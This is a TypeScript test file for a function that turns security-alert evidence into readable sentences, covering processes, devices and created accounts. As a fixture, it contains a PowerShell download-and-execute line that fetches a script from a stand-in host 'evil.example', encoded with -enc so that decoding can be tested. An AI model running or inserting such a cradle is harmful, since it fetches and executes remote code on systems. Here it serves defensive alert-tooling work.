import { describe, expect, it } from 'vitest';
import { narrate } from './narrate.ts';
import type { NarrationPart } from './narrate-parts.ts';
import { item as piece } from './testing/story-parts.ts';
import type { StoryEvidence } from './types.ts';

type Alert = Parameters<typeof narrate>[0];

const item = (
  id: number,
  kind: StoryEvidence['entity']['kind'],
  label: string,
  details: StoryEvidence['details'] = {},
): StoryEvidence => {
  const one = piece(id, kind, 'a', details);
  return { ...one, entity: { ...one.entity, label } };
};
const shown = (part: NarrationPart): string =>
  part.kind === 'text' ? part.text : part.kind === 'time' ? '<time>' : `«${part.label}»`;
const told = (
  evidence: readonly StoryEvidence[],
  additional: readonly { name: string; value: string }[] = [],
): readonly string[] => {
  const row = {
    ...{ title: 'Alert', serviceSource: null, stormSize: 1, mitreTechniques: [] },
    ...{ firstActivity: 1_000, lastActivity: 1_000 },
  };
  const alert = { row, evidence, additional, description: null } as unknown as Alert;
  return narrate(alert).sentences.map((sentence) => sentence.map(shown).join(''));
};

describe('the narration of a process', () => {
  const script = 'IEX (New-Object Net.WebClient).DownloadString("http://evil.example/a.ps1")';
  const encoded = Buffer.from(script, 'utf16le').toString('base64');
  const run = (commandLine: string): StoryEvidence =>
    item(1, 'process', 'powershell.exe', {
      imageFile: { fileName: 'powershell.exe' },
      processCommandLine: commandLine,
    });

  it('tells what its command line hides, as far as a sentence has room', () => {
    expect(told([run(`powershell -enc ${encoded}`)])).toEqual([
      'The alert names the process «powershell.exe» on <time>.',
      `Decoded, its command line says «${script}».`,
    ]);
    const long = Buffer.from(`Write-Host ${'x'.repeat(500)}`, 'utf16le').toString('base64');
    const [, decoded = ''] = told([run(`powershell -enc ${long}`)]);
    expect(decoded.length).toBeLessThan(260);
    expect(decoded).toContain('…');
  });

  it('tells what it was called with, shortened in the middle', () => {
    expect(told([run('powershell -File a.ps1')])).toEqual([
      'The alert names the process «powershell.exe» on <time>, with the command line «powershell -File a.ps1».',
    ]);
    expect(told([run('C:\\Windows\\powershell.exe')])).toEqual([
      'The alert names the process «powershell.exe» on <time>.',
    ]);
    const [long = ''] = told([run(`powershell -File a.ps1 ${'x '.repeat(4_000)} -Last 1`)]);
    expect(long.length).toBeLessThan(260);
    expect(long).toMatch(/«powershell -File a\.ps1 .*….*-Last 1»\.$/);
  });

  it('says of a process without a name where it ran, and does not take its folder or its kind for a name', () => {
    const nameless = (label: string, details: StoryEvidence['details']): readonly string[] =>
      told([item(1, 'process', label, details)]);
    expect(nameless('c:\\temp', { imageFile: { filePath: 'C:\\Temp' } })).toEqual([
      'The alert names an «unnamed process» in «C:\\Temp» on <time>.',
    ]);
    expect(nameless('process', { processCreationDateTime: '2025-03-01T08:00:00Z' })).toEqual([
      'An «unnamed process» was started on <time>.',
    ]);
    expect(nameless('c:\\temp\\a.exe', { imageFile: { filePath: 'C:\\Temp\\a.exe' } })[0]).toContain(
      'the process «c:\\temp\\a.exe»',
    );
  });

  it('names other processes as named, without saying what they have to do with it', () => {
    const viewer = item(2, 'process', 'viewer.exe', { imageFile: { fileName: 'viewer.exe' } });
    expect(told([run('powershell'), viewer])).toContain('The alert also names the process «viewer.exe».');
  });
});

describe('the narration of an account that was created', () => {
  it('names it, also where no piece of evidence does', () => {
    const device = item(1, 'device', 'pc-1');
    const record = [{ name: 'ExtendedProperties.Created Account', value: 'adm1nistrator' }];
    expect(told([device], record)).toEqual([
      '«Alert» was reported for the device «pc-1» on <time>.',
      'The account that was created is «adm1nistrator».',
    ]);
    expect(told([device])).toHaveLength(1);
  });
});
